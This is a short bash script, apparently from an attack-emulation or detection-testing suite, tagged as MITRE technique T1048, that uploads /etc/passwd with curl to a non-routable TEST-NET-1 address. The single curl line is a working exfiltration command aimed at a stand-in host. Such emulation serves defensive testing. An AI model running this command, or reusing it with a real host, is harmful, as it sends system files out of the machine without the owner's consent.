#!/usr/bin/env bash
# attack: T1048 Exfiltrate /etc/passwd with curl -F to an outside host
. "$(dirname "$0")/lib/common.sh"
# 192.0.2.0/24 is TEST-NET-1: never routed, so nothing leaves the host
curl -s --connect-timeout 2 --max-time 3 -F "f=@/etc/passwd" http://192.0.2.10/upload >/dev/null
